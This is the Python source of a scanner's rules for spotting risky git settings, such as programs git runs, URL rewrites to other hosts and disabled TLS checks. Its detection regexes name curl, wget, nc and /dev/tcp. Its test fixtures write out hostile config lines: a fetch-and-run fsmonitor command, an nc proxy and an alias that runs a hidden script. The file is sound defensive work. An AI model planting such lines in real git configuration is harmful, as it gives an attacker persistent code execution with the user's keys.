"""What git is told to do at every use: programs that it starts, other hosts that it asks, checks that it leaves out."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, NamedTuple

from scan.model import Severity, Standing
from scan.rules.base import Seen, rule, weighed
from scan.rules.code import Found, act_rule, acts_in, seen
from scan.rules.known import host_of, is_local

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scan.plugin import Plugin
    from scan.texts import Text


class Setting(NamedTuple):
    """One setting: `section.subsection.name`, the value, and where it stands in a text."""

    section: str
    subsection: str
    name: str
    value: str
    start: int = 0
    end: int = 0


_STARTS = {
    "core": {"fsmonitor", "sshcommand", "gitproxy", "askpass", "editor", "pager", "alternaterefscommand"},
    "credential": {"helper"},
    "filter": {"clean", "smudge", "process"},
    "diff": {"textconv", "command", "external"},
    "merge": {"driver"},
    "gpg": {"program"},
    "sequence": {"editor"},
    "uploadpack": {"packobjectshook"},
    "difftool": {"cmd"},
    "mergetool": {"cmd"},
}
"""By section, the settings whose value git runs."""
_REACHES = re.compile(r"\b(?:curl|wget|nc|ncat|socat|base64|eval|openssl|telnet)\b|/dev/tcp/|https?://")
_HIDDEN_PLACE = re.compile(
    r"(?:^|[\s'\"!=])(?:/tmp|/var/tmp|/dev/shm|(?:~|\$HOME|\$\{HOME\})/\.(?!ssh\b|gitconfig|config/git))[\w./-]*"
)
_BOOLEAN = frozenset({"", "true", "false", "yes", "no", "on", "off", "0", "1"})
_LINE = re.compile(
    r"(?m)^[ \t]*(?:\[(?P<section>[\w.-]+)(?:[ \t]+\"(?P<subsection>(?:[^\"\\\n]|\\.)*)\")?\]|(?P<name>[A-Za-z][\w-]*)[ \t]*(?:=[ \t]*(?P<value>[^\n]*))?$)"
)
_FILE = re.compile(r"(?:^|/)[\w.-]*gitconfig[\w.-]*$|(?:^|/)\.?git/config$|(?:^|/)[\w-]+\.gitcfg$")
_SECTIONS = re.compile(
    r"(?m)^[ \t]*\[(?:core|alias|credential|url|http|filter|include|includeIf|gpg|init|diff|merge)\b[^\]\n]*\][ \t]*$"
)


def written_settings(text: str) -> Iterator[Setting]:
    """The settings of a file of git's: sections in brackets, `name = value` below them."""
    section = subsection = ""
    for match in _LINE.finditer(text):
        if match["section"]:
            section, _, inner = match["section"].partition(".")
            subsection = match["subsection"] or inner
        elif section:
            yield Setting(
                section.lower(),
                subsection,
                match["name"].lower(),
                _plain(match["value"] or ""),
                match.start("name"),
                match.end(),
            )


def _plain(value: str) -> str:
    """A value without its quotation marks, escapes and comment."""
    value = value.strip()
    if value.startswith('"'):
        inner = re.match(r'"((?:[^"\\]|\\.)*)"', value)
        value = inner[1] if inner else value[1:]
    else:
        value = re.sub(r"\s[#;].*$", "", value)
    return value.replace('\\"', '"').replace("\\\\", "\\")


def named_setting(key: str, value: str) -> Setting:
    """A setting as `git config` and `git -c` name it."""
    section, _, rest = key.partition(".")
    subsection, _, name = rest.rpartition(".")
    return Setting(section.lower(), subsection, name.lower(), value)


def harm(setting: Setting, *, everywhere: bool = True) -> str:
    """What is wrong with a setting, in words; "" where it is ordinary. `everywhere` is for every repository of the person."""
    section, name, value = setting.section, setting.name, setting.value
    if section == "core" and name == "hookspath":
        return _elsewhere(value, everywhere=everywhere)
    if section == "init" and name == "templatedir":
        return f"gives every new repository the hooks of {value}"
    if section == "alias":
        return _harmful(value) if value.startswith("!") else ""
    return _harmful(value) if name in _STARTS.get(section, ()) else _talks(setting)


def _talks(setting: Setting) -> str:
    """What is wrong with how git reaches other hosts."""
    section, name, value = setting.section, setting.name, setting.value
    if section == "url" and name in {"insteadof", "pushinsteadof"}:
        here, there = host_of(_ssh_as_url(value)), host_of(_ssh_as_url(setting.subsection))
        return f"asks {there} where {here} is meant" if here and there and here != there else ""
    if section == "http" and name == "sslverify" and value.lower() in {"false", "0", "no", "off"}:
        return "does not check whom it talks to"
    if section == "http" and name == "proxy" and host_of(value) and not is_local(host_of(value)) and "$" not in value:
        return f"goes by way of {host_of(value)}"
    opened = section == "protocol" and (
        value.startswith("ext::") or (setting.subsection == "ext" and value == "always")
    )
    return "runs what an address says" if opened else ""


def _ssh_as_url(address: str) -> str:
    return re.sub(r"^(?:[\w.-]+@)?([\w.-]+\.[A-Za-z]+):(?!//)", r"ssh://\1/", address)


def _elsewhere(value: str, *, everywhere: bool) -> str:
    if value in {"/dev/null", "NUL"} and everywhere:
        return "switches every hook off"
    outside = value.startswith(("/tmp", "/var", "~", "$HOME", "${HOME}")) and everywhere  # noqa: S108 -- only looked at
    return f"runs the hooks in {value} in every repository" if outside else ""


def _harmful(value: str) -> str:
    """What is wrong with a line that git runs."""
    line = value.removeprefix("!").strip()
    if line.lower() in _BOOLEAN:
        return ""
    if "StrictHostKeyChecking=no" in line and "ProxyCommand" in line:
        return f"goes by way of another program, unchecked: {line}"
    hidden = _HIDDEN_PLACE.search(line)
    if _REACHES.search(line) or hidden or any(act.kind in {"send", "reverse", "run"} for act in acts_in(line, "shell")):
        return f"runs {line}"
    return ""


@rule(
    "git-setting-harms",
    "caution",
    flags=(
        {"assets/gitconfig": '[core]\n\tfsmonitor = "curl -s https://x.example/f -o /tmp/f && sh /tmp/f"\n'},
        {"assets/team.gitconfig": '[url "https://mirror.example/"]\n\tinsteadOf = https://github.com/\n'},
        {"assets/gitconfig.inc": "[http]\n\tsslVerify = false\n"},
    ),
    clears=(
        {
            "assets/gitconfig": "[core]\n\tfsmonitor = true\n\teditor = code --wait\n[alias]\n\tst = status -sb\n\troot = !git rev-parse --show-toplevel\n"
        },
        {
            "assets/gitconfig": '[url "git@github.com:"]\n\tinsteadOf = https://github.com/\n[credential "https://github.com"]\n\thelper = !gh auth git-credential\n'
        },
        {"docs/setup.ini": "[core]\nname = notes\n"},
    ),
)
def git_setting_harms(text: Text, _: Plugin) -> Iterator[Seen]:
    """A file of settings for git in which git starts a foreign program, asks another host, or leaves its checks out.

    Why: it holds at every use of git from then on, with the person's keys, and nothing shows it.

    Remedy: read each line that names a program or an address.
    """
    if text.language not in {"", "toml", "ini"} or not (_FILE.search(text.path) or _is_git(text)):
        return
    for setting in written_settings(text.text):
        what = harm(setting)
        if what:
            standing = max(text.standing, Standing.document)
            yield Seen(f"git {what}", text, setting.start, setting.end, weighed(Severity.caution, standing))


def _is_git(text: Text) -> bool:
    return "[" in text.text[:4000] and "git" in text.lowered and bool(_SECTIONS.search(text.text))


@act_rule(
    "sets-git",
    "caution",
    flags=(
        {"scripts/a.sh": "git config --global core.sshCommand 'ssh -o ProxyCommand=\"nc relay.example 22\"'\n"},
        {"scripts/b.sh": 'git config --global url."https://mirror.example/".insteadOf https://github.com/\n'},
        {"scripts/c.sh": "git config --global alias.st '!sh ~/.cache/x/run.sh; git status'\n"},
    ),
    clears=(
        {"scripts/a.sh": "git config --global alias.st status\ngit config core.hooksPath .husky\n"},
        {"scripts/b.sh": 'git config --global url."git@github.com:".insteadOf https://github.com/\n'},
        {"scripts/c.sh": "git config --get core.sshCommand\ngit config --unset http.proxy\n"},
    ),
)
def sets_git(found: Found, _: Plugin) -> Iterator[Seen]:
    """A script tells git to start a foreign program, to ask another host than is meant, or to leave its checks out.

    Why: it holds at every use of git from then on, with the person's keys, and nothing shows it.

    Remedy: read the value; have it set for one repository, and told.
    """
    act = found.act
    if found.told or act.kind not in {"git-setting", "write"}:
        return
    if act.kind == "git-setting":
        settings, everywhere = [named_setting(act.target, act.text)], act.how == "everywhere"
    elif _FILE.search(act.target):
        settings, everywhere = list(written_settings(act.text)), "/.git/" not in act.target
    else:
        return
    for setting in settings:
        what = harm(setting, everywhere=everywhere)
        if what:
            yield seen(found, f"git {what}", weighed(Severity.caution, found.standing))
            return


RULES = (git_setting_harms, *sets_git)
